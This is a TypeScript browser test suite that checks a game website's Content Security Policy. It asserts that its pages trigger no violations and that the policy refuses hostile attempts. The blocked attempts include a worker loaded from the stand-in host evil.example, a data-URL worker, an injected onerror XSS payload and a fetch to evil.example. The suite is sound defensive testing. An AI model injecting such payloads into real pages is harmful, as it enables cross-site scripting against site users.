import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openVisitor, type Visitor } from './kit/visitor.ts'

let visitor: Visitor
beforeAll(async () => {
  visitor = await openVisitor()
})
afterAll(() => visitor.close())

type Watched = { violations?: string[] }

/** Everything that the policy of the page had to refuse since it was opened. */
async function openWatched(path: string): Promise<{ page: Page; refused(): Promise<string[]> }> {
  const page = await visitor.context.newPage()
  await page.addInitScript(() => {
    const violations: string[] = []
    Object.assign(globalThis, { violations })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push(`${effectiveDirective} ${blockedURI}`),
    )
  })
  await page.goto(path)
  await page.waitForLoadState('networkidle')
  return { page, refused: () => page.evaluate(() => (globalThis as Watched).violations ?? []) }
}

describe('the policy of the pages', () => {
  test.each([
    ['/', 200],
    ['/tables', 200],
    ['/new', 200],
    ['/learn/winds-of-plunder', 200],
    ['/me', 200],
    ['/about', 200],
    ['/matches/m_0123456789abcdefghjkmnpqrs', 200],
    ['/nothing', 404],
  ])('has nothing to refuse at %s', async (path) => {
    const { page, refused } = await openWatched(path)
    expect(await page.locator('#page').textContent()).not.toBe('')
    expect(await refused()).toEqual([])
    await page.close()
  })

  test('lets a worker of the build run, and no script from elsewhere', async () => {
    const assets = await readdir(join(import.meta.dirname, '../../web/dist/assets'))
    const worker = assets.find((name) => /^worker-[\w-]+\.js$/.test(name))!
    const { page, refused } = await openWatched('/about')
    const started = await page.evaluate((name) => {
      new Worker(`/assets/${name}`, { type: 'module' }).terminate()
      return true
    }, worker)
    expect(started).toBe(true)
    expect(await refused()).toEqual([])
    const tries = await page.evaluate(() => {
      const attempt = (work: () => unknown) => {
        try {
          work()
          return 'done'
        } catch {
          return 'refused'
        }
      }
      return [
        attempt(() => new Worker('data:text/javascript,1')),
        attempt(() => new Worker('https://evil.example/x.js')),
        attempt(() => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>'
        }),
      ]
    })
    expect(tries).toEqual(['refused', 'refused', 'refused'])
    await page.evaluate(() => fetch('https://evil.example/').catch(() => {}))
    expect((await refused()).join('\n')).toContain('connect-src https://evil.example/')
    await page.close()
  })
})
